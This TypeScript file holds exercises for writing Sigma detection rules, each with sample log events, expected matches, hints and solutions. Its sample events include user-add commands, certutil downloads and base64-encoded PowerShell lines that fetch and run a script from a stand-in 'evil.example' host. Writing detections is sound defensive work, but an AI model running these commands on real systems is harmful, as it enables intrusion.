/** Exercises on modifiers and value rules: all, windash, escapes, null, cidr, base64offset. */
import { exampleRule, NETWORK, PROCESS } from '../example.ts'
import type { Exercise } from '../exercise.ts'

const proc = (id: number, title: string, detection: string) =>
  exampleRule(id, title, PROCESS, detection)

export const MODIFIERS: Exercise[] = [
  {
    id: 'ex-contains-all',
    title: '7. Every word, not any word',
    goal: 'Fire only when the command line adds a user (#0): it must contain "net", " user " and "/add" together.',
    rule: proc(
      210,
      'User added',
      "selection:\n    CommandLine|contains:\n        - 'net'\n        - ' user '\n        - '/add'\ncondition: selection",
    ),
    events: [
      { CommandLine: 'net user eve P@ss /add' },
      { CommandLine: 'net user eve' },
      { CommandLine: 'net localgroup admins /add' },
    ],
    want: [true, false, false],
    hints: ['A list is OR. One modifier turns it into AND.', 'Use CommandLine|contains|all.'],
    solution: proc(
      210,
      'User added',
      "selection:\n    CommandLine|contains|all:\n        - 'net'\n        - ' user '\n        - '/add'\ncondition: selection",
    ),
  },
  {
    id: 'ex-windash',
    title: '8. Slash or dash',
    goal: 'Catch certutil with -urlcache written with a dash (#0) or a slash (#1), not without (#2).',
    rule: proc(
      211,
      'Certutil download',
      "selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: ' -urlcache '\ncondition: selection",
    ),
    events: [
      {
        Image: 'C:\\Windows\\System32\\certutil.exe',
        CommandLine: 'certutil -urlcache -f http://x a',
      },
      {
        Image: 'C:\\Windows\\System32\\certutil.exe',
        CommandLine: 'certutil /urlcache /f http://x a',
      },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil urlcache http://x a' },
    ],
    want: [true, true, false],
    hints: ['Windows tools take /flag as well as -flag. There is a modifier that tries both.'],
    solution: proc(
      211,
      'Certutil download',
      "selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|windash|contains: ' -urlcache '\ncondition: selection",
    ),
  },
  {
    id: 'ex-escape',
    title: '9. The backslash before the star',
    goal: 'The rule should fire on cmd.exe in any folder under C:\\Windows (#0, #1) but fires on none. Fix the value.',
    rule: proc(
      212,
      'Cmd under Windows',
      "selection:\n    Image: 'C:\\Windows\\*\\cmd.exe'\ncondition: selection",
    ),
    events: [
      { Image: 'C:\\Windows\\System32\\cmd.exe' },
      { Image: 'C:\\Windows\\SysWOW64\\cmd.exe' },
      { Image: 'C:\\Temp\\cmd.exe' },
    ],
    want: [true, true, false],
    hints: [
      '\\* is an escaped, literal star: no wildcard is left in the value.',
      'Double the backslash before the star: \\\\*.',
    ],
    solution: proc(
      212,
      'Cmd under Windows',
      "selection:\n    Image: 'C:\\Windows\\\\*\\cmd.exe'\ncondition: selection",
    ),
  },
  {
    id: 'ex-null',
    title: '10. Events without a command line',
    goal: 'Drop the event that has no CommandLine field at all (#1), keep #0.',
    rule: proc(
      213,
      'Svchost',
      "selection:\n    Image|endswith: '\\svchost.exe'\ncondition: selection",
    ),
    events: [
      { Image: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'svchost.exe -k netsvcs' },
      { Image: 'C:\\Windows\\System32\\svchost.exe' },
    ],
    want: [true, false],
    hints: [
      'A filter with the value null matches a missing field.',
      'filter_no_cmd: {CommandLine: null}, then "and not filter_no_cmd".',
    ],
    solution: proc(
      213,
      'Svchost',
      "selection:\n    Image|endswith: '\\svchost.exe'\nfilter_no_cmd:\n    CommandLine: null\ncondition: selection and not filter_no_cmd",
    ),
  },
  {
    id: 'ex-cidr',
    title: '11. Only public addresses',
    goal: 'Write a filter so that only the connection to a public address (#0) matches.',
    rule: exampleRule(
      214,
      'Rundll32 network',
      NETWORK,
      "selection:\n    Image|endswith: '\\rundll32.exe'\ncondition: selection",
    ),
    events: [
      { Image: 'C:\\Windows\\System32\\rundll32.exe', DestinationIp: '203.0.113.50' },
      { Image: 'C:\\Windows\\System32\\rundll32.exe', DestinationIp: '10.1.2.3' },
      { Image: 'C:\\Windows\\System32\\rundll32.exe', DestinationIp: '192.168.0.7' },
    ],
    want: [true, false, false],
    hints: [
      'DestinationIp|cidr takes networks like 10.0.0.0/8.',
      'Put the private ranges in a filter and exclude it.',
    ],
    solution: exampleRule(
      214,
      'Rundll32 network',
      NETWORK,
      "selection:\n    Image|endswith: '\\rundll32.exe'\nfilter_main_private:\n    DestinationIp|cidr:\n        - '10.0.0.0/8'\n        - '192.168.0.0/16'\ncondition: selection and not filter_main_private",
    ),
  },
  {
    id: 'ex-base64offset',
    title: '12. Hidden in base64',
    goal: 'Both command lines hide "http://" in base64 (#0, #1); the third hides "ftp://". Catch the first two.',
    rule: proc(
      215,
      'Encoded download',
      "selection:\n    CommandLine|contains: 'http://'\ncondition: selection",
    ),
    events: [
      { CommandLine: 'powershell -c aWV4IChpd3IgaHR0cDovL2V2aWwuZXhhbXBsZS9hLnBzMSk=' },
      { CommandLine: 'powershell -c aHR0cDovL2V2aWwuZXhhbXBsZQ==' },
      { CommandLine: 'powershell -c aWV4IChpd3IgZnRwOi8vZXZpbC5leGFtcGxlKQ==' },
    ],
    want: [true, true, false],
    hints: [
      'The text is encoded, so search for its encoding.',
      'base64offset|contains tries the three possible alignments.',
    ],
    solution: proc(
      215,
      'Encoded download',
      "selection:\n    CommandLine|base64offset|contains: 'http://'\ncondition: selection",
    ),
  },
  {
    id: 'ex-svchost-filter',
    title: '13. Tune out the svchost updates',
    goal: 'The rule is noisy: write the filter that removes the svchost updates (#1, #2) and keeps the real hit (#0).',
    rule: exampleRule(
      216,
      'Outbound HTTPS from system binaries',
      NETWORK,
      "selection:\n    Image|startswith: 'C:\\Windows\\'\n    DestinationPort: 443\ncondition: selection",
    ),
    events: [
      {
        Image: 'C:\\Windows\\System32\\rundll32.exe',
        ParentImage: 'C:\\Users\\x\\doc.exe',
        DestinationPort: 443,
      },
      {
        Image: 'C:\\Windows\\System32\\svchost.exe',
        ParentImage: 'C:\\Windows\\System32\\services.exe',
        DestinationPort: 443,
      },
      {
        Image: 'C:\\Windows\\System32\\svchost.exe',
        ParentImage: 'C:\\Windows\\System32\\services.exe',
        DestinationPort: 443,
      },
    ],
    want: [true, false, false],
    hints: [
      'What do #1 and #2 share that #0 does not? Look at Image and ParentImage.',
      'filter_main_svchost: Image|endswith svchost.exe and ParentImage|endswith services.exe.',
    ],
    solution: exampleRule(
      216,
      'Outbound HTTPS from system binaries',
      NETWORK,
      "selection:\n    Image|startswith: 'C:\\Windows\\'\n    DestinationPort: 443\nfilter_main_svchost:\n    Image|endswith: '\\svchost.exe'\n    ParentImage|endswith: '\\services.exe'\ncondition: selection and not filter_main_svchost",
    ),
  },
]
